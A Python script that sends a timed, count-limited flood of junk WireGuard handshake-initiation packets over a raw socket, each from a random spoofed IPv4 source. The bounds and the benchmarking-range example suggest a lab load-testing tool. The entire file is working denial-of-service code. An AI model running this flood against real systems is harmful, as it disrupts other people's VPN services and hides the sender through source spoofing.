#!/usr/bin/env python3
"""A bounded flood of junk WireGuard handshake initiations from spoofed sources.

  flood.py DST_ADDR DST_PORT COUNT SECONDS SRC_PREFIX

Sends COUNT 148-byte type-1 messages (random bytes after the header, so MAC1
never verifies) spread evenly over SECONDS, each from a random IPv4 source in
SRC_PREFIX (e.g. 198.18.128.0/17) and a random source port, then prints
"SENT ELAPSED". Stops at COUNT packets or SECONDS plus one, whichever comes first.
Needs a raw socket (root); the addresses are the caller's to choose.
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time

INIT_LEN = 148
BURST = 20  # packets per pacing step: 2,000/s is 100 steps a second


def packet(src: bytes, dst: bytes, sport: int, dport: int) -> bytes:
    payload = b"\x01\x00\x00\x00" + os.urandom(INIT_LEN - 4)
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)  # no UDP checksum (IPv4)
    # Total length and header checksum are filled in by the kernel (IP_HDRINCL).
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, src, dst)
    return ip + udp + payload


def main() -> None:
    if len(sys.argv) != 6:
        sys.exit(__doc__)
    dst, dport = sys.argv[1], int(sys.argv[2])
    count, seconds = int(sys.argv[3]), float(sys.argv[4])
    net = ipaddress.IPv4Network(sys.argv[5])
    dst_b = socket.inet_aton(dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    stop = start + seconds + 1
    sent = 0
    while sent < count and time.monotonic() < stop:
        for _ in range(min(BURST, count - sent)):
            src = net.network_address + random.randrange(1, net.num_addresses - 1)
            s.sendto(packet(src.packed, dst_b, random.randrange(1024, 65536), dport), (dst, 0))
            sent += 1
        ahead = start + sent * seconds / count - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    print(sent, f"{time.monotonic() - start:.1f}", flush=True)


if __name__ == "__main__":
    main()
